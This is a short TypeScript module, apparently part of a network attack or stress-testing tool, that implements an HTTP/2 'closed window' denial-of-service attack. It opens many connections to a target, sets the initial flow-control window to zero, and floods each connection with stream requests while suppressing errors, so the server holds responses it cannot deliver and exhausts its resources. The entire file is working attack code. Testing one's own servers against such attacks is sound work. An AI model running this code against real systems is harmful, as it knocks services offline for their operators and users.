/** HTTP/2 streams whose window stays shut: answers that the client never lets come. */
import { connect } from 'node:http2'
import type { Attack } from './attack.ts'

export const closedWindow: Attack = (target, swarm, { connections, streams, path }) => {
  swarm.keepMany(Number(connections), () => {
    const socket = swarm.connect(target.https, 'h2', () => {
      const session = connect('https://localhost', {
        createConnection: () => socket,
        settings: { initialWindowSize: 0 },
      })
      session.on('error', () => {})
      for (let number = 0; number < Number(streams); number++) {
        const stream = session.request({ ':path': String(path), ':authority': target.host })
        stream.on('error', () => {})
      }
    })
    return socket
  })
}
